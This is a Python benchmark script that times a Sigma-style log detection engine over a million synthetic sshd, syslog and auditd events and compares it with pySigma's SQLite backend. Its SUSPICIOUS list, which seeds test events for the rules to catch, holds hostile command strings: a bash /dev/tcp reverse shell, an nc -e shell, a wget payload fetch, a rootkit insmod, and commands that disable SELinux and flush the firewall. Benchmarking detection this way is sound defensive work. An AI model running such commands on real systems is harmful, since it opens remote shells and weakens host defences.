"""Detection throughput on one core: events/s and peak memory over 1,000,000 stored events.

The event mix (issue 6: >= 50,000 events/s through >= 100 rules including correlations):

- 40 % sshd/PAM from loghub OpenSSH_2k (brute force in it: the correlations fire),
- 30 % loghub Linux_2k syslog (kernel, cron, su, ftpd, …),
- 30 % auditd process executions (SYSCALL + EXECVE + CWD + PATH + PROCTITLE, the records
  Debian 12's auditd writes for execve, as in tests/files/ingest/audit.log), commands drawn
  from a list of everyday admin commands with 2 % suspicious ones (chattr, setenforce 0, a
  reverse shell, base64 -d …) so process rules match now and then.

Each parsed event is replicated with a new id and its time moved by one day per copy, so
every copy is new to the correlation windows. The events are put into a SQLite store
once (not timed); then, in a fresh process pinned to one core, what ``govsec detect run``
does is timed: read batches from the store, decode, run the rules (govsec's own + the 214
public Linux rules), record alerts and save windows and position per batch. Peak RSS is that
process's. The same rules then run through pySigma's SQLite backend (``sigma convert -t
sqlite``'s queries, over a flat ``logs`` table built from the same events): load and query
times and the ratio are printed. Never asserts a figure.

    .venv/bin/python bench/detect_throughput.py [--events 1000000] [--keep DIR]
"""

from __future__ import annotations

import argparse
import json
import os
import random
import resource
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson

ROOT = Path(__file__).resolve().parents[1]
CORPORA = ROOT / "tests" / "files" / "corpora"
REF = datetime(2026, 11, 21, tzinfo=UTC)

BENIGN = [
    "ls -la /var/log",
    "ps aux",
    "grep -r error /var/log/nginx",
    "systemctl status nginx",
    "df -h",
    "id",
    "uptime",
    "tail -n 100 /var/log/syslog",
    "cat /etc/hosts",
    "free -m",
    "journalctl -u ssh --since today",
    "vim /etc/nginx/nginx.conf",
    "python3 /opt/app/job.py",
    "git pull",
    "apt-get update",
    "du -sh /srv",
    "ss -tlnp",
    "ip addr",
    "top -b -n 1",
    "find /srv/www -name *.php -mtime -1",
    "tar czf /backup/www.tgz /srv/www",
    "rsync -a /srv/ backup01:/srv/",
    "mysql -e select 1",
    "curl -s http://127.0.0.1/health",
    "crontab -l",
    "who",
    "last -n 20",
    "openssl x509 -in /etc/ssl/certs/site.pem -noout -dates",
    "chmod 640 /var/log/app.log",
    "chown www-data /srv/www/upload",
    "sha256sum /srv/app.bin",
]
SUSPICIOUS = [
    "chattr -i /etc/passwd",
    "setenforce 0",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "base64 -d /tmp/p.b64",
    "nc -e /bin/sh 203.0.113.7 4444",
    "wget http://203.0.113.7/x -O /tmp/x",
    "insmod /tmp/rootkit.ko",
    "history -c",
    "iptables -F",
    "crontab -r",
]


def audit_lines(n: int, seed: int = 7) -> list[str]:
    """n execve audit events as auditd writes them (records of one serial, then EOE)."""
    rnd = random.Random(seed)  # noqa: S311 - a repeatable event mix, not a secret
    lines: list[str] = []
    t0 = REF.timestamp() - 86400
    for i in range(n):
        cmd = rnd.choice(SUSPICIOUS) if rnd.random() < 0.02 else rnd.choice(BENIGN)
        argv = cmd.split()
        exe = argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0]}"
        stamp = f"{t0 + i * 0.7:.3f}:{1000 + i}"
        uid = rnd.choice([0, 1000, 1001, 33])
        pid = 2000 + i % 30000
        args = " ".join(f'a{k}="{a}"' for k, a in enumerate(argv))
        title = "00".join(a.encode().hex() for a in argv).upper()
        lines += [
            f"type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0"
            f" a0=55d0c0a0e2a0 a1=55d0c0a0e2d0 a2=55d0c0a0e300 a3=8 items=2 ppid={pid - 1}"
            f" pid={pid} auid=1000 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid}"
            f' egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses=3 comm="{argv[0][-15:]}"'
            f' exe="{exe}" subj=unconfined key="exec"',
            f"type=EXECVE msg=audit({stamp}): argc={len(argv)} {args}",
            f'type=CWD msg=audit({stamp}): cwd="/home/alice"',
            f'type=PATH msg=audit({stamp}): item=0 name="{exe}" inode=1835122 dev=08:01'
            " mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0"
            " cap_fe=0 cap_fver=0 cap_frootid=0",
            f"type=PROCTITLE msg=audit({stamp}): proctitle={title}",
            f"type=EOE msg=audit({stamp}): ",
        ]
    return lines


def base_events() -> list[dict[str, Any]]:
    from secops.ingest.parse import parse_line
    from secops.ingest.parsers.auditd import AuditAssembler

    def corpus(name: str, host: str) -> list[dict[str, Any]]:
        lines = (CORPORA / "loghub" / name).read_bytes().splitlines()
        return [parse_line(line, host=host, received=REF, tz=UTC) for line in lines]

    ssh = corpus("OpenSSH_2k.log", "labsz")
    linux = corpus("Linux_2k.log", "combo")
    assembler = AuditAssembler(tz=UTC, host="app01")
    audit = [e for line in audit_lines(1500) for e in assembler.feed(line)]
    audit += assembler.flush()
    # 40/30/30 of a block of 5,000
    return ssh[:2000] + linux[:1500] + audit[:1500]


def replicate(base: list[dict[str, Any]], n: int) -> Iterator[dict[str, Any]]:
    blobs = [orjson.dumps(e) for e in base]
    stamps = [datetime.fromisoformat(e["@timestamp"]) for e in base]
    for i in range(n):
        copy, k = divmod(i, len(base))
        doc = orjson.loads(blobs[k])
        doc["@timestamp"] = (stamps[k] + timedelta(days=copy)).isoformat()
        doc["event"]["id"] = f"{copy:08x}{k:08x}{'0' * 16}"
        yield doc


def build_store(db: Path, n: int) -> None:
    from secops.store.sqlite import SqliteStore

    base = base_events()
    started = time.perf_counter()
    with SqliteStore(db) as store:
        batch: list[dict[str, Any]] = []
        for doc in replicate(base, n):
            batch.append(doc)
            if len(batch) == 20_000:
                store.put(batch)
                batch = []
        if batch:
            store.put(batch)
    print(f"  store built: {n:,} events in {time.perf_counter() - started:.0f} s (not timed)")


def forget_detection(db: Path) -> None:
    """Drop what a detection run left in the store (alerts, windows, position), if anything."""
    import apsw

    connection = apsw.Connection(str(db))
    try:
        tables = {row[0] for row in connection.execute("SELECT name FROM sqlite_master")}
        for table in ("alerts", "alert_history", "alert_outbox", "detect_state"):
            if table in tables:
                connection.execute(f"DELETE FROM {table}")  # noqa: S608 - constant names
    finally:
        connection.close()


def rule_paths() -> list[Path]:
    from secops.rules import RULES_DIR

    return [RULES_DIR, CORPORA / "sigma-linux"]


def run_detection(db: Path) -> None:
    """The timed part, in its own process: print one JSON line."""
    from secops.alerts.store import AlertStore
    from secops.detect.engine import load_rules
    from secops.detect.runner import Runner
    from secops.store.sqlite import SqliteStore

    cpu = min(os.sched_getaffinity(0))
    os.sched_setaffinity(0, {cpu})
    ruleset = load_rules(rule_paths())
    store, alerts = SqliteStore(db), AlertStore(db)
    wall, used = time.perf_counter(), time.process_time()
    report = Runner(store, alerts, ruleset).run()
    wall, used = time.perf_counter() - wall, time.process_time() - used
    n_alerts = len(alerts.list(limit=100_000))
    alerts.close_store()
    store.close()
    print(
        json.dumps(
            {
                "cpu": cpu,
                "events": report.events,
                "wall": wall,
                "cpu_s": used,
                "rules": len(ruleset.rules),
                "correlations": len(ruleset.correlations),
                "problems": len(ruleset.problems),
                "detections": report.detections,
                "alerts": n_alerts,
                "groups": report.groups,
                "peak_rss_mib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
            }
        )
    )


def run_sqlite(db: Path, work: Path, limit: float) -> dict[str, Any]:
    from secops.detect.sqlite_compare import run_sqlite_backend
    from secops.store.sqlite import SqliteStore

    def events() -> Iterator[dict[str, Any]]:
        with SqliteStore(db) as store:
            seq = 0
            while rows := store.read_after(seq, 20_000):
                seq = rows[-1][0]
                yield from (orjson.loads(doc) for _, doc in rows)

    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    result = run_sqlite_backend(rule_paths(), events(), work / "logs.db", query_limit=limit)
    slowest = sorted(result.seconds_per_rule.items(), key=lambda kv: -kv[1])[:4]
    return {
        "load": result.seconds_load,
        "query": result.seconds_query,
        "rows": result.rows,
        "queries": len(result.matches_per_rule) + len(result.stopped),
        "errors": len(result.errors),
        "stopped": sorted(result.stopped),
        "slowest": slowest,
        "matches": sum(result.matches_per_rule.values()),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--keep", type=Path, help="keep the stores in this directory")
    parser.add_argument("--run", type=Path, help=argparse.SUPPRESS)
    parser.add_argument("--no-sqlite", action="store_true", help="skip the pySigma comparison")
    parser.add_argument(
        "--query-limit",
        type=float,
        default=300.0,
        help="seconds before one SQLite query is stopped (its time then counts as this)",
    )
    options = parser.parse_args()
    if options.run:
        run_detection(options.run)
        return
    n = options.events
    print(f"detection over {n:,} stored events, one core")
    with tempfile.TemporaryDirectory(prefix="govsec-bench-detect-") as tmp:
        work = options.keep or Path(tmp)
        work.mkdir(parents=True, exist_ok=True)
        db = work / "events.db"
        for old in work.glob("events.db*"):
            old.unlink()
        build_store(db, n)
        rates: list[float] = []
        for run in range(options.runs):
            forget_detection(db)  # each run starts from the first event, no alerts, no windows
            child = subprocess.run(
                [sys.executable, __file__, "--run", str(db)],
                capture_output=True,
                text=True,
                check=True,
            )
            ours = json.loads(child.stdout.strip().splitlines()[-1])
            rates.append(ours["events"] / ours["wall"])
            if run == 0:
                print(
                    f"  govsec detect run: {ours['rules']} rules + {ours['correlations']}"
                    f" correlations ({ours['problems']} not run), cpu {ours['cpu']}"
                )
            print(
                f"    run {run + 1}: {ours['events']:,} events in {ours['wall']:.1f} s:"
                f" {rates[-1]:,.0f} events/s wall, {ours['events'] / ours['cpu_s']:,.0f} per CPU s;"
                f" {ours['detections']:,} detections, {ours['alerts']:,} alerts;"
                f" peak RSS {ours['peak_rss_mib']:.0f} MiB"
            )
        rate = statistics.median(rates)
        print(f"    median {rate:,.0f} events/s, best {max(rates):,.0f}")
        if options.no_sqlite:
            return
        theirs = run_sqlite(db, work, options.query_limit)
        sql_rate = n / theirs["query"]
        print(
            f"  pySigma SQLite backend: {theirs['queries']} queries ({theirs['errors']} failed)"
            f" over {theirs['rows']:,} rows: load {theirs['load']:.1f} s, queries"
            f" {theirs['query']:.1f} s = {sql_rate:,.0f} events/s (queries only),"
            f" {n / (theirs['load'] + theirs['query']):,.0f} events/s with loading;"
            f" {theirs['matches']:,} matching rows"
        )
        for label in theirs["stopped"]:
            print(f"    stopped at {options.query_limit:.0f} s (counted as that): {label}")
        for label, seconds in theirs["slowest"]:
            print(f"    slowest: {seconds:7.1f} s  {label}")
        print(f"  ratio govsec / SQLite backend (queries only): {rate / sql_rate:.2f}x")


if __name__ == "__main__":
    main()
